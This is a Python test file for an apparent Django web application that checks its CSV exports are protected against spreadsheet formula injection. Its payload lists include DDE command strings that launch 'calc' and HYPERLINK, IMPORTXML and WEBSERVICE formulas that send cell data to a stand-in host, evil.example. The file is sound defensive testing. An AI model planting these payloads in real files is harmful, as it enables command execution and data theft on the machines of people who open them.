"""A22: nothing that people typed is run as a formula by the spreadsheet in which somebody opens an export."""

from __future__ import annotations

import csv
import io
import re
import uuid
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

import pactdesk
from pactdesk.accounts.models import Account, Enrolment, Organization
from pactdesk.agreements import ledger
from pactdesk.agreements.services import activation
from pactdesk.cases.models import Case
from pactdesk.imports.rules import Options
from pactdesk.imports.services.confirming import bring
from pactdesk.pages.spreadsheet import as_text
from tests import world
from tests.conversations import sent
from tests.doors.test_who_may_open_what import patterns
from tests.doors.visitors import visitor
from tests.imported import table

FORMULAS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
CALLS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://evil.example/?"&A1,"ok")',
    'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "1+1",
    'WEBSERVICE("https://evil.example/")',
    "SUM(1)*cmd|'/c x'!A0",
    'DDE("cmd";"/C calc";"x")',
)
# What may stand before a formula without keeping a spreadsheet from running it, and what begins another cell.
PASSED_OVER = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    '"',
    "'",
    "''",
    ' "',
    "\t ",
    "\xa0",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\x0b",
)
BREAKS_OUT = ("x;", "x\t", "x\n", "x|", 'x;"', "x; ", "x\r", "x;\xa0", 'x","', 'x";"', "x,", "x\t\u200b")
PAYLOADS = [
    f"{before}{sign}{call}" for before in PASSED_OVER + BREAKS_OUT for sign in FORMULAS for call in CALLS
]
UNSEEN = ' \t\r\n\x0b\xa0\u3000\ufeff\u200b"'


def cells(line: str, separator: str) -> list[str]:
    """What a program makes of a line: split at commas it heeds the quotes, and elsewhere they are wherever they are."""
    if separator == ",":
        return [cell for row in csv.reader(io.StringIO(line, newline="")) for cell in row]
    return [cell for part in line.splitlines() for cell in part.split(separator)]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_begins_like_a_formula_wherever_the_spreadsheet_splits(separator: str) -> None:
    wrong = []
    for payload in PAYLOADS:
        line = io.StringIO()
        csv.writer(line).writerow(["PD-1", as_text(payload), "B"])
        # A comma inside is quoted for those who split at commas, and no boundary for others.
        for cell in cells(line.getvalue(), separator):
            if cell.lstrip(UNSEEN).startswith(FORMULAS):
                wrong.append((payload, cell))
    assert not wrong, wrong[:5]


def test_what_is_harmless_stays_as_it_is() -> None:
    for text in (
        "",
        "Mail waits",
        "a - b",
        "1-2",
        "a; b",
        "e-mail: ana@example.org",
        "x=1",
        "5 + 5",
        "— and",
    ):
        assert as_text(text) == text


# All tables that this house gives away, and to whom in this test.
TABLES = {
    "portal:activity-csv": "carla",
    "portal:activity-use-csv": "carla",
    "portal:benefit-statement": "carla",
    "portal:benefit-statements": "carla",
    "portal:customers-csv": "carla",
    "portal:customer-csv": "carla",
    "portal:opened-for-us-csv": "cem",
    "portal:request-list-csv": "carla",
    "portal:rights-csv": "cem",
    "portal:rights-held-csv": "nora",
    "desk:agreements-csv": "marta",
    "desk:import-mistakes-csv": "marta",
    "desk:organizations-csv": "marta",
    "desk:waiting-pairs-csv": "marta",
    "desk:queue-export": "ines",
    "desk:report-csv": "ines",
}


def test_every_table_that_can_be_fetched_is_looked_at_here() -> None:
    assert {
        name for name, address, _parameters in patterns() if re.search(r"csv|xls|ods|export", address)
    } == set(TABLES)
    sources = Path(pactdesk.__file__).parent.rglob("*.py")
    writing = {
        path.stem
        for path in sources
        if re.search(r"csv\.writer|DictWriter|text/csv|xlsx|spreadsheetml", path.read_text())
    }
    assert writing == {"spreadsheet"}


def rows(client: Client, address: str) -> Iterator[list[str]]:
    response = client.get(address)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="[a-z0-9-]+\.csv"', response["Content-Disposition"])
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    return csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["en", "el"])
def test_no_cell_of_any_table_is_run(language: str) -> None:
    """Each payload in each column that people fill; the numbers of a statement stay numbers."""
    plan = world.agreement(units=400, owner="carla", registered=["carla"])
    first, carla, at = sent(plan), world.viewer("carla"), timezone.now()
    customer, under = world.organization_of("cem"), world.delegation("carla", "cem", "submit", "read")
    world.administrator("nora")
    world.administrator("carla")
    world.delegation("nora", "cem", "read")
    payloads = PAYLOADS[:: 9 if language == "en" else 29]
    browsers = {who: visitor(who) for who in TABLES.values()}
    Organization.objects.filter(pk=world.person("carla").organization_id).update(name=payloads[0])
    Account.objects.filter(pk__in=[carla.account_id, world.person("ines").pk]).update(
        first_name="=1+1", last_name="@SUM(1)"
    )
    for place, payload in enumerate(payloads):
        ledger.adjust(
            plan.id, units=-1, key=f"adjust:{place}", actor_id=carla.account_id, at=at, note=payload
        )
    # Only what the queue shows counts here, so the rows are copied rather than sent one by one.
    copies = []
    for payload in payloads[:40]:
        copy = Case.objects.get(pk=first.pk)
        copy.pk, copy.draft_key, copy.summary, copy.night_name = None, uuid.uuid4(), payload, payload
        copies.append(copy)
    Case.objects.bulk_create(copies)
    # Half of them for a customer whose name is one, too, under rights that it granted.
    Case.objects.filter(pk__in=[each.pk for each in copies[::2]]).update(customer=customer, delegation=under)
    Organization.objects.filter(pk=customer).update(name=payloads[1])
    # A pair that waits, because nobody is noted to whom it could be mailed.
    Enrolment.objects.create(
        organization_id=carla.organization_id,
        level="gold",
        renewed_on=at.date(),
        ends_on=at.date() + timedelta(days=364),
    )
    activation.activate_due(at=at)
    world.team("service-centre", "marta")
    rows_of_file = [{"programme": each, "organization": each, "owner": each} for each in payloads]
    content = table(*rows_of_file).encode("utf-8", "ignore")
    imported = bring(content, "=1+1.csv", Options(), actor=world.viewer("marta"), at=at)
    wrong, cells, balances, empty = [], 0, set(), set(TABLES)
    for name, who in TABLES.items():
        browser = browsers[who]
        browser.post(reverse("set_language"), {"language": language})
        parts = {
            "portal:benefit-statement": [plan.id],
            "portal:customer-csv": [customer],
            "desk:report-csv": ["load"],
            "desk:import-mistakes-csv": [imported],
        }
        address = reverse(name, args=parts.get(name, []))
        for place, row in enumerate(rows(browser, f"{address}?view=team" if who == "ines" else address)):
            empty -= {name} if place else set()
            for cell in row:
                cells += 1
                balances.add(cell)
                if cell.lstrip(UNSEEN).startswith(FORMULAS) and not re.fullmatch(r"[+-]?\d+", cell):
                    wrong.append(f"{name}: {cell!r}")
    assert wrong == []
    assert empty == set(), "a table in which nothing stands says nothing about it"
    assert cells > 400
    assert "-1" in balances
